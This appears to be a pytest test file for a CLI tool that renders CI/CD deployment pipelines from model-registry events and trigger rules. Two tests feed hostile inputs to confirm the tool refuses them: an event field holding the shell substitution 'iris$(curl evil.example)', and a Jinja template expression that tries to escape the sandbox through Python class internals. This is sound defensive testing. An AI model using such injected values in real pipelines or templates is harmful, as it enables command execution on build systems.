"""`pipeline-plugin render` and `pipeline-plugin init` as a user runs them."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from pipeline_plugin.cli import main
from pipeline_plugin.events import ModelVersionEvent
from pipeline_plugin.render import render_pipeline
from pipeline_plugin.rules import load_rules

CHECK = Path(sys.executable).with_name("check-jsonschema")
SCHEMA_ARGS = {
    "github": ["--builtin-schema", "vendor.github-workflows"],
    "azure-pipelines": ["--builtin-schema", "vendor.azure-pipelines", "--data-transform", "azure-pipelines",
                        "--regex-variant", "nonunicode"],
    "gitlab": ["--builtin-schema", "vendor.gitlab-ci"],
}

RULE = """\
name: deploy-iris
match:
  source: mlflow
  model: iris*
pipeline:
  provider: github
  repository: acme/models
  workflow: deploy-model.yml
  service: iris
  target: process
  staging_port: 9101
"""


@pytest.fixture
def setup(tmp_path):
    triggers = tmp_path / "triggers"
    triggers.mkdir()
    (triggers / "iris.yml").write_text(RULE)
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"id": 17, "status": "matched", "source": "mlflow", "kind": "model_version.created",
                                 "model": "iris", "version": "4", "tags": {"stage": "candidate"}, "delivery_id": "d1"}))
    return triggers, event


def test_render_prints_the_pipeline_for_the_rule_and_event(setup, capsys):
    triggers, event = setup
    assert main(["render", "--provider", "github", "--triggers", str(triggers), "--rule", "deploy-iris",
                 "--event", str(event)]) == 0
    doc = yaml.safe_load(capsys.readouterr().out)
    assert doc[True]["workflow_dispatch"]["inputs"]["version"]["default"] == "4"
    assert doc["jobs"]["deploy-staging"]["steps"][1]["with"]["port"] == "9101"


@pytest.mark.parametrize("provider", sorted(SCHEMA_ARGS))
def test_render_writes_where_the_ci_system_looks(setup, tmp_path, capsys, provider):
    triggers, event = setup
    out = tmp_path / "repo"
    assert main(["render", "--provider", provider, "--triggers", str(triggers), "--rule", "deploy-iris",
                 "--event", str(event), "-o", str(out), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    written = Path(data["file"])
    expected = {"github": ".github/workflows/deploy-model.yml", "gitlab": ".gitlab-ci.yml",
                "azure-pipelines": "azure-pipelines/deploy-model.yml"}[provider]
    assert written == out / expected and written.is_file()
    proc = subprocess.run([str(CHECK), *SCHEMA_ARGS[provider], str(written)], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout


def test_render_unknown_rule_suggests(setup, capsys):
    triggers, event = setup
    assert main(["render", "--provider", "gitlab", "--triggers", str(triggers), "--rule", "deploy-irs",
                 "--event", str(event)]) == 2
    assert "Did you mean 'deploy-iris'" in capsys.readouterr().err


def test_render_refuses_a_hostile_event_naming_the_field(setup, tmp_path, capsys):
    triggers, _ = setup
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"source": "mlflow", "kind": "model_version.created",
                               "model": "iris$(curl evil.example)", "version": "1"}))
    assert main(["render", "--provider", "github", "--triggers", str(triggers), "--rule", "deploy-iris",
                 "--event", str(bad), "--json"]) == 2
    out = capsys.readouterr().out
    error = json.loads(out)
    assert error["field"] == "model" and error["value"] == "iris$(curl evil.example)" and error["pattern"]
    assert "jobs:" not in out


@pytest.mark.parametrize("provider,pipeline_file,schema", [
    ("github", ".github/workflows/deploy-model.yml", "github"),
    ("gitlab", ".gitlab-ci.yml", "gitlab"),
    ("azure-devops", "azure-pipelines/deploy-model.yml", "azure-pipelines"),
])
def test_init_writes_a_valid_pipeline_and_a_loadable_rule(tmp_path, capsys, provider, pipeline_file, schema):
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / ".git" / "config").write_text('[remote "origin"]\n\turl = git@github.com:acme/churn.git\n')
    assert main(["init", "--provider", provider, "--dir", str(repo), "--model", "Churn"]) == 0
    proc = subprocess.run([str(CHECK), *SCHEMA_ARGS[schema], str(repo / pipeline_file)], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout
    [rule] = load_rules(repo / "triggers")
    assert rule.name == "deploy-churn" and rule.enabled is False
    assert rule.pipeline["provider"] == provider
    if provider in ("github", "gitlab"):
        assert rule.pipeline.get("repository", rule.pipeline.get("project")) == "acme/churn"
    # the pipeline written is the one the rule renders: what the rule says, the pipeline does
    render_provider = "azure-pipelines" if provider == "azure-devops" else provider
    event = ModelVersionEvent.from_dict({"source": "mlflow", "kind": "model_version.created", "model": "Churn", "version": "1"})
    assert (repo / pipeline_file).read_text() == render_pipeline(render_provider, event, rule.name, rule.pipeline).text
    if provider == "gitlab":  # the rule's approval: true is the manual gate before production
        assert rule.pipeline["approval"] is True
        assert yaml.safe_load((repo / pipeline_file).read_text())["promote-production"]["when"] == "manual"
    # a second init keeps the user's edits
    capsys.readouterr()
    assert main(["init", "--provider", provider, "--dir", str(repo), "--model", "Churn"]) == 2
    assert "--force" in capsys.readouterr().err


def test_own_templates_are_sandboxed_and_strict(setup, tmp_path, capsys):
    triggers, event = setup
    own = tmp_path / "tpl" / "gitlab"
    own.mkdir(parents=True)
    template = own / "deploy-model.gitlab-ci.yml.j2"
    template.write_text("variables:\n  MODEL_NAME: <{ inputs.model | yaml }>\n")
    args = ["render", "--provider", "gitlab", "--triggers", str(triggers), "--rule", "deploy-iris", "--event", str(event),
            "--templates", str(tmp_path / "tpl")]
    assert main(args) == 0
    assert yaml.safe_load(capsys.readouterr().out) == {"variables": {"MODEL_NAME": "iris"}}
    template.write_text("x: <{ inputs.__class__.__mro__[1].__subclasses__() }>\n")
    assert main(args) == 2
    assert "failed to render" in capsys.readouterr().err
    template.write_text("x: <{ inputs.modle }>\n")
    assert main(args) == 2
    assert "modle" in capsys.readouterr().err
